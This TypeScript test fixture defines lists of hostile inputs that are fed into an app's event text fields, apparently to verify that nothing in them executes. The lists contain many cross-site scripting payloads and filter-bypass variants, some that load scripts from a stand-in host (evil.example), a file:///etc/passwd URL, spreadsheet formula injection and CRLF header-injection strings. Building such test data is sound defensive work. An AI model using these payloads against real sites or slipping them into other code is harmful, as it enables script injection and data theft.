import type { NewEvent } from "../../record/kinds/all.ts";
import { everyKind } from "../everyKind.ts";

/** Set by any script that runs where none should. */
const RUN = "globalThis.ran=1";

/** Words that would be code, one of each kind: in elements, attributes, addresses and data. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<script type=module>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--#app--><!--[--><!--!$e-->`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" `,
  `<img/src="x"/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div style="background:url(javascript:${RUN})">`,
  `<x onclick=${RUN} tabindex=1 onfocus=${RUN} autofocus>`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  "`-alert(1)-`",
  `\${${RUN}}{{${RUN}}}<%=${RUN}%>#{${RUN}}`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}\u2029`,
  `\u0000<script>${RUN}</script>`.replace("\u0000", "\uFFFD"),
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202egpj.exe\u202c<img src=x onerror=${RUN}>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `//evil.example/x`,
  `\\\\evil.example`,
  `https://evil.example/" onmouseover="${RUN}`,
  `https://a@evil.example/'><script>${RUN}</script>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `feed:javascript:${RUN}`,
];

const wrapped = (address: string) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `<${address}>`,
  `[x][y]\n\n[y]: ${address}`,
];

/** Words that would run, bare and as Markdown. */
export const HOSTILE: readonly string[] = [
  ...SCRIPTS,
  ...SCRIPTS.slice(0, 14).flatMap((s) => [`**${s}**`, `[${s}](https://example.org "${s}")`]),
  ...ADDRESSES,
  ...ADDRESSES.flatMap(wrapped),
];

/** What would be a formula, a second header or another statement. */
export const OTHER_HOSTILE: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "＝1+1",
  '=HYPERLINK("https://evil.example","x")',
  "a\r\nBcc: evil@example.org",
  "a\nX-Evil: 1\n\nbody",
  "%0d%0aSet-Cookie: evil=1",
];

/** One event of every kind, with other words in each of their texts. */
export const withWords = (next: () => string): NewEvent[] =>
  everyKind().map((e): NewEvent => {
    const { texts } = e as { texts?: Record<string, string> };
    if (!texts) return e;
    const others = Object.fromEntries(Object.keys(texts).map((field) => [field, next()]));
    return { ...e, texts: others } as NewEvent;
  });
